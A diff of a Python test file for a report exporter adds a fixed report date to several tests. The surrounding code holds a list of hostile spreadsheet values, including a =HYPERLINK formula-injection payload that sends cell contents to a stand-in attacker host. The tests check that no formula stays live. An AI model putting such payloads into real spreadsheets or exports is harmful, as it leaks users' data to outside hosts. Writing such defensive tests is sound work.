@@ -8,6 +8,7 @@ folder as it was."""
 from __future__ import annotations
 
 import csv
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -20,6 +21,8 @@ from reports.cells import inert
 from reports.periods import financial_year
 from reports.render import FILES, write_all
 from tests.reports.datasets import Sheet
+
+PRODUCED_ON = date(2026, 12, 6)  # the report's date
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -96,7 +99,7 @@ def test_exports_write_no_live_formula_and_read_back(engine: Engine, load, tmp_p
 
 def test_report_workbook_has_no_live_formula(engine: Engine, load, tmp_path: Path) -> None:
     load(_hostile_sheet())
-    report, figures = build_report(engine, financial_year(2022))
+    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
     out = tmp_path / "report"
     write_all(report, figures, out)
     workbook = load_workbook(out / "report.xlsx")
@@ -117,7 +120,7 @@ def test_hostile_labels_never_crash_a_report(
     sheet.add(record_kind="complaint", received_on="2022-05-02", team=label)
     sheet.add(record_kind="complaint", received_on="2022-06-02", team="West")
     load(sheet)
-    report, figures = build_report(engine, financial_year(2022))
+    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
     (tmp_path / "out").mkdir()
     out = tmp_path / "out" / "report"
     written = write_all(report, figures, out)
@@ -133,7 +136,7 @@ def test_a_report_that_fails_leaves_its_folder_as_it_was(
     sheet = Sheet()
     sheet.add(record_kind="complaint", received_on="2022-05-02", team="East")
     load(sheet)
-    report, figures = build_report(engine, financial_year(2022))
+    report, figures = build_report(engine, financial_year(2022), today=PRODUCED_ON)
     (tmp_path / "out").mkdir()
     out = tmp_path / "out" / "report"
     write_all(report, figures, out)
